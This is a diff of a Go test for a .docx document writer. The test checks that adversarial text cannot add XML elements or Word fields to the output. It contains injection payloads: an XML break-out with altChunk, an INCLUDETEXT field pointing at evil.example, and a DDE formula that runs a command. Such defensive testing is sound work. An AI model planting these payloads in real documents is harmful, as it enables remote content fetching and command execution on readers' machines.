@@ -252,14 +252,15 @@ func said(d document.Document) []string {
 
 func TestHostileText(t *testing.T) {
 	plain := len(check(t, write(t, hostile("quiet")))["word/document.xml"].elements)
-	for _, h := range append(testkit.Hostile(), "</w:t></w:r><w:altChunk r:id=\"rId9\"/>", "{ INCLUDETEXT http://evil.example }", "=cmd|'/c calc'!A1", strings.Repeat("x", 100_000)) {
+	ours := append(testkit.Hostile(), "</w:t></w:r><w:altChunk r:id=\"rId9\"/>", "{ INCLUDETEXT http://evil.example }", "=cmd|'/c calc'!A1")
+	for _, h := range []string{strings.Join(ours, " "), strings.Repeat("x", 20_000), ""} {
 		looks := check(t, write(t, hostile(h)))
 		if n := len(looks["word/document.xml"].elements); n > plain+2 { // a line break and a tab in a run
-			t.Errorf("%q brings elements of its own", h)
+			t.Errorf("%.40q brings elements of its own", h)
 		}
-		for _, field := range strings.Split(strings.Join(looks["word/document.xml"].values["fldChar@fldCharType"], " "), " ") {
+		for _, field := range looks["word/document.xml"].values["fldChar@fldCharType"] {
 			if field != "begin" && field != "separate" && field != "end" {
-				t.Errorf("%q: field %s", h, field)
+				t.Errorf("%.40q: field %s", h, field)
 			}
 		}
 	}
@@ -272,9 +273,14 @@ func hostile(h string) document.Document {
 		Title: h, Subtitle: h, Language: h, Footer: h, Tool: h, Made: time.Date(2026, 1, 2, 3, 4, 5, 6, time.UTC),
 		Banner: []document.Badge{{Kind: document.BadgeTLP, Text: h, Tone: document.Tone(h)}},
 		Blocks: []document.Block{
-			document.Heading{ID: h, Level: -1, Text: all}, document.Heading{ID: "x", Level: 9, Text: all},
-			document.Paragraph{Text: all}, document.Note{Tone: document.Bad, Text: all}, document.List{Ordered: true, Items: []document.Text{all, all}},
-			document.Definitions{Items: []document.Definition{{Term: h, Text: all}}}, document.Verbatim{Text: h, Code: true}, document.PageBreak{},
+			document.Heading{ID: h, Level: -1, Text: all},
+			document.Heading{ID: "x", Level: 9, Text: all},
+			document.Paragraph{Text: all},
+			document.Note{Tone: document.Bad, Text: all},
+			document.List{Ordered: true, Items: []document.Text{all, all}},
+			document.Definitions{Items: []document.Definition{{Term: h, Text: all}}},
+			document.Verbatim{Text: h, Code: true},
+			document.PageBreak{},
 			document.Table{ID: h, Caption: h, Columns: []document.Column{{Title: h}, {Title: h, Kind: document.Digest}}, Rows: []document.Row{{ID: h, Cells: []document.Text{all}}, {Divide: true}}},
 			document.Figure{ID: h, Caption: h, Alt: h, Facts: &document.Table{Columns: []document.Column{{Title: h}}}},
 		},
